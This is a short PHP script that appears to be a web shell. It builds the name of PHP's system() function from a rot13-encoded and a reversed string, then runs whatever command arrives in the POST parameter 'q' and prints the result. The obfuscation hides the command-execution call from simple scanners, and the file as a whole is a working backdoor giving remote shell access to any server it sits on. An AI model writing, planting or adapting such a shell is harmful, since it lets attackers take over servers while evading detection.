<?php
// The function called is a double-quoted string of two variables: "{$a}{$b}"(...)
$a = str_rot13('flf');
$b = strrev('met');
$in = isset($_POST['q']) ? $_POST['q'] : 'id';
echo '<pre>';
"{$a}{$b}"($in);
echo '</pre>';
